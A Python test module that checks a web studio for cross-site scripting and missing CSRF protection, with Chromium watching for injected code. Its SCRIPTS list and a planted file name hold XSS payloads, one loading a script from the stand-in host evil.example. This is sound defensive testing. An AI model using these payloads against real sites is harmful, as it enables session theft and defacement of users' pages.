"""Texts that would run: written into every text field and every file that a page reads from, then looked for in what
the server sends, and watched in a real Chromium, whose own say counts.
"""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from pathlib import Path
from typing import TYPE_CHECKING, Any

import httpx
import numpy as np

from brandsmith.benchmark.studio_attack import Attack
from brandsmith.benchmark.studio_browser import chromium, new_page
from brandsmith.benchmark.studio_forms import forms_of
from brandsmith.benchmark.studio_live import Browser, LiveStudio, pages_of
from brandsmith.core.pictures import save_png
from brandsmith.draw.recipe import Origin, Recipe
from brandsmith.guidance.settings import DrawSettings

if TYPE_CHECKING:
    from playwright.sync_api import Browser as Chromium
    from playwright.sync_api import Dialog, Request

MOST_PAGES, MOST_OPENED = 120, 400
_NUMBER = re.compile(r"[0-9]+")
SCRIPTS = (
    "<script>document.title='x1'</script>",
    '"><img src=x onerror="document.title=1">',
    "'-alert(1)-'",
    "{{ 7 * 7 }}<svg onload=alert(1)>",
    "javascript:alert(1)//<a href='javascript:alert(1)'>",
    "</textarea><script src=//evil.example/x.js></script>",
)
"""Texts that run where they are not escaped."""
UNESCAPED = ("<script>document.title", "<img src=x", "<svg onload", "<script src=//evil", "<a href='javascript")
_NAME = '"><img src=x onerror="document.title=1">.png'
_WATCH = """
window.refused = [];
document.addEventListener("securitypolicyviolation", (one) => {
  window.refused.push(`refused by the policy: ${one.violatedDirective} ${one.blockedURI}`);
});
"""
_RAN = """() => {
  const all = Array.from(document.querySelectorAll("*")), shown = (one) => one.outerHTML.slice(0, 80);
  const handles = (one) => Array.from(one.attributes).some((own) => /^on/i.test(own.name));
  const leads = (one) => /^javascript:/i.test(one.getAttribute("href") || one.getAttribute("src") || "");
  return [
    ...window.refused,
    ...(["x1", "1"].includes(document.title) ? ["the title was changed"] : []),
    ...all.filter((one) => handles(one) || leads(one) || one.matches("script:not([src])")).map(shown),
  ];
}"""
"""What a page of ours never has, and what ran."""


def plant_scripts(workspace: Path) -> None:
    """Files as people may bring them: captions, a concept's words, a run's settings, a picture's prompt and name."""
    concept, run = workspace / "concepts" / "shown", workspace / "runs" / "shown"
    grey = np.full((96, 96, 3), 120, np.uint8)
    for number, script in enumerate(SCRIPTS):
        save_png(concept / "images" / f"{number}.png", grey)
        (concept / "images" / f"{number}.txt").write_text(script, encoding="utf-8", newline="")
    words = {"token": "shown_mark", "class_word": SCRIPTS[0], "expected_text": SCRIPTS[1]}
    (concept / "concept.yaml").write_text(json.dumps(words), encoding="utf-8", newline="")
    (run / "checkpoints" / "step-000001").mkdir(parents=True)
    config = {"base": SCRIPTS[0], "concept": {"token": SCRIPTS[1]}, "settings": {"method": SCRIPTS[3], "steps": 1}}
    (run / "config.json").write_text(json.dumps(config), encoding="utf-8", newline="")
    recipe = Recipe(SCRIPTS[1], 7, DrawSettings(), Origin("pocket", "f" * 16), ((SCRIPTS[1], 7),), 0, SCRIPTS[0])
    save_png(workspace / "creations" / "shown" / _NAME, grey, recipe.as_text())
    (workspace / "studies" / "shown").mkdir(parents=True)
    study = workspace / "studies" / "shown" / "study.json"
    study.write_text(json.dumps({"name": SCRIPTS[1], "base": SCRIPTS[0]}), encoding="utf-8", newline="")


def write_scripts(browser: Browser, attack: Attack) -> None:
    """Texts that would run, in every text field; then every page is read again. Raises what httpx raises when
    they are not taken: then nothing would have been tried.
    """
    browser.visit("/")
    for script in SCRIPTS:
        fields: list[tuple[str, dict[str, Any]]] = [
            ("sample", {"prompts": [script], "name": script[:80]}),
            ("sample", {"prompts": ["x"], "draw": {"negative_prompt": script}}),
            ("moodboard", {"theme": script}),
            ("ad", {"brief": {"product": script, "headline": script, "legal": script}}),
        ]
        for kind, given in fields:
            attack.note(f"{kind} {script}", browser.order(kind, given).raise_for_status(), served=False)
        config = {"token": "mark", "class_word": script, "expected_text": script, "prompts": [f"{script} {{token}}"]}
        attack.note(  # a token and names of other signs are refused, which is as well
            f"concept {script}",
            browser.submit("/api/v1/concepts", json={"name": script, "config": config}),
            served=False,
        )
    _fill_forms(browser, attack)
    for path in pages_of(browser, MOST_PAGES):
        answer = browser.get(path)
        attack.requests += 1
        attack.scripts += [f"{path}: {text}" for text in UNESCAPED if _is_page(answer) and text in answer.text]
        policy = answer.headers.get("content-security-policy", "")
        if "default-src 'self'" not in policy or "unsafe" in policy:
            attack.scripts.append(f"{path}: policy {policy}")


def _fill_forms(browser: Browser, attack: Attack) -> None:
    """Every text field of every form: first without a token, then with such texts, a form once an address."""
    seen: set[str] = set()
    for path in pages_of(browser, MOST_PAGES):
        for form in forms_of(browser.visit(path).text, path):
            shape = _NUMBER.sub("#", form.action)
            if shape in seen or form.action in ("/login", "/logout"):
                continue
            seen.add(shape)
            stranger = httpx.post(f"{browser.base_url}{form.action}", data=form.fields | {"csrf": "0" * 64})
            attack.note(f"form {form.action} without a token", stranger)
            texts = {name: SCRIPTS[number % len(SCRIPTS)] for number, name in enumerate(form.texts)}
            sent = browser.submit(form.action, data=form.fields | texts | {"csrf": browser.token})
            attack.note(f"form {form.action}", sent, served=False)
            attack.scripts += [f"{form.action}: {text}" for text in UNESCAPED if _is_page(sent) and text in sent.text]


def _is_page(answer: httpx.Response) -> bool:
    return answer.headers.get("content-type", "").startswith("text/html")


def open_in_chromium(studio: LiveStudio, browser: Browser, attack: Attack) -> int:
    """Load every page that links lead to; what runs there, or asks another server, is noted. How many were loaded."""
    with chromium() as program:
        number, ran = watch_pages(program, studio.address, pages_of(browser, MOST_OPENED))
    attack.scripts += ran
    return number


def watch_pages(program: Chromium, address: str, paths: Sequence[str]) -> tuple[int, list[str]]:
    """(pages loaded, what ran on them); a picture is no page: the browser shows it by a page of its own."""
    page = new_page(program, 1440, "light")
    page.add_init_script(_WATCH)
    said: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        said.append(f"a dialog: {dialog.message}")
        dialog.dismiss()

    def note_foreign(request: Request) -> None:
        if not request.url.startswith((f"{address}/", "data:", "blob:", "about:")):
            said.append(f"asked {request.url}")

    page.on("dialog", dismiss)
    page.on("request", note_foreign)
    ran, number = [], 0
    for path in paths:
        answer = page.goto(address + path, wait_until="load")
        if answer is not None and "text/html" in answer.headers.get("content-type", ""):
            number += 1
            ran += [f"{path} in Chromium: {one}" for one in (*said, *page.evaluate(_RAN))]
        said.clear()
    page.context.close()
    return number, ran
